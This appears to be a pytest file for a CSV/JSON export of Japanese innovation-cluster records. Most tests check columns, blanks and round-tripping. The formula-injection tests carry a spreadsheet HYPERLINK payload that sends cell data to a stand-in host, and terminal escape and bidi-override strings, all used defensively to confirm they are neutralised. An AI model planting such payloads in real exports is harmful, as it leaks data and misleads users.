"""The export: its columns are a promise, and nothing in it runs in a spreadsheet program or a terminal."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import timedelta

import pytest
from made import AOBA, BARE, NIGHT, POST, verdict

from crawler.model import Flag, Reason, Review, Verdict
from db.export import COLUMNS, csv_cell, export_rows, json_text, write_csv, write_json

PROMISED = (
    "cluster_id, name_en, name_ja, website, flag, activity, english, latest_post_on, "
    "latest_post_precision, latest_post_url, latest_post_source, latest_post_raw, english_latest_post_on, next_event_on, "
    "languages, reachability, last_reached_at, failing_since, confidence, reasons, reviewed_flag, "
    "reviewed_by, reviewed_at, policy, decided_at, sector, prefecture, programme"
)
REVIEW = Review(cluster_id="aoba", flag=Flag.LIKELY_CEASED, by="kato", at=NIGHT + timedelta(days=1))

AS_CSV = {
    "cluster_id": "aoba",
    "name_en": "Aoba Photonics Cluster",
    "name_ja": "青葉フォトニクス・クラスター推進協議会",
    "website": "https://aoba.example/",
    "flag": "japanese_only",
    "activity": "active",
    "english": "none",
    "latest_post_on": "2024-10-12",
    "latest_post_precision": "day",
    "latest_post_url": "https://aoba.example/news/",
    "latest_post_source": "list_item",
    "latest_post_raw": "2024年10月12日",
    "english_latest_post_on": "2024-10-12",
    "next_event_on": "2024-10-12",
    "languages": "ja,en",
    "reachability": "read",
    "last_reached_at": "2024-11-24T18:00:00Z",
    "failing_since": "2024-11-24T18:00:00Z",
    "confidence": "0.9",
    "reasons": "The newest post is of 12 October 2024.",
    "reviewed_flag": "likely_ceased",
    "reviewed_by": "kato",
    "reviewed_at": "2024-11-25T18:00:00Z",
    "policy": "policy-1",
    "decided_at": "2024-11-24T18:00:00Z",
    "sector": "Photonics",
    "prefecture": "Miyagi",
    "programme": "Regional Innovation Strategy",
}


def as_csv(*mapping: tuple[object, Verdict | None], reviews: dict[str, Review] | None = None) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    write_csv(export_rows(mapping, reviews or {}), out)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_the_columns_are_those_promised_in_their_order() -> None:
    assert ", ".join(COLUMNS) == PROMISED


def test_a_judged_and_reviewed_cluster_fills_every_column_of_a_csv() -> None:
    assert as_csv((AOBA, verdict()), reviews={"aoba": REVIEW}) == [AS_CSV]


def test_a_cluster_that_was_never_judged_is_undetermined_and_blank_otherwise() -> None:
    (row,) = as_csv((BARE, None))
    filled = {name: value for name, value in row.items() if value}
    assert filled == {
        "cluster_id": "bare",
        "name_en": "Bare Cluster",
        "flag": "undetermined",
        "activity": "undetermined",
        "english": "undetermined",
    }


def test_several_reasons_stand_in_one_cell() -> None:
    two = replace(verdict(), reasons=(Reason(code="a", text="One."), Reason(code="b", text="Two.")))
    assert as_csv((AOBA, two))[0]["reasons"] == "One. | Two."


def test_json_is_one_document_with_every_column_in_every_row() -> None:
    out = io.StringIO()
    count = write_json(export_rows([(AOBA, verdict()), (BARE, None)], {}), out, generated_at=NIGHT)
    document = json.loads(out.getvalue())
    assert count == 2
    assert document["generated_at"] == "2024-11-24T18:00:00Z"
    aoba, bare = document["clusters"]
    assert tuple(aoba) == tuple(bare) == COLUMNS
    assert (aoba["confidence"], aoba["languages"], aoba["reviewed_flag"]) == (0.9, "ja,en", None)
    assert bare["latest_post_on"] is None
    assert aoba["reasons"] == [
        {
            "code": "recent_post",
            "text": "The newest post is of 12 October 2024.",
            "points": -6.0,
            "url": "https://aoba.example/news/",
            "raw": "2024年10月12日",
        }
    ]


@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_of_a_csv_begins_a_formula(mark: str) -> None:
    hostile = f'{mark}HYPERLINK("http://x.example/?"&A1,"x")'
    evil = replace(AOBA, name_en=hostile, name_ja=hostile, sector=hostile)
    word = replace(verdict(), latest=replace(POST, raw=hostile), reasons=(Reason(code="a", text=hostile),))
    (row,) = as_csv((evil, word))
    for name in ("name_en", "name_ja", "sector", "latest_post_raw", "reasons"):
        assert row[name].startswith("'")
        assert row[name].endswith('HYPERLINK("http://x.example/?"&A1,"x")')


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (0.0, "0"),
        (-3.5, "-3.5"),
        ("two\nlines", "two\nlines"),
        ("\x1b[31mred\x1b[0m", " [31mred [0m"),
        ("\x9b31m", " 31m"),
        ("a\u202eb", "a b"),
        ("\x00=1", " =1"),
    ],
)
def test_a_value_as_a_cell(value: str | float | None, cell: str) -> None:
    assert csv_cell(value) == cell


def test_json_words_cannot_order_a_terminal_about_and_come_back_as_they_were() -> None:
    hostile = "\x1b]0;owned\x07 \x9b31m \u202e \u2028 \r \t 日本"
    text = json_text({"raw": hostile})
    assert all(c.isprintable() or c == "\n" for c in text)
    assert "日本" in text
    assert json.loads(text) == {"raw": hostile}


def test_a_csv_is_read_back_with_quotes_separators_and_line_ends() -> None:
    name = 'a "b", c;\nd'
    assert as_csv((replace(AOBA, name_ja=name), None))[0]["name_ja"] == name
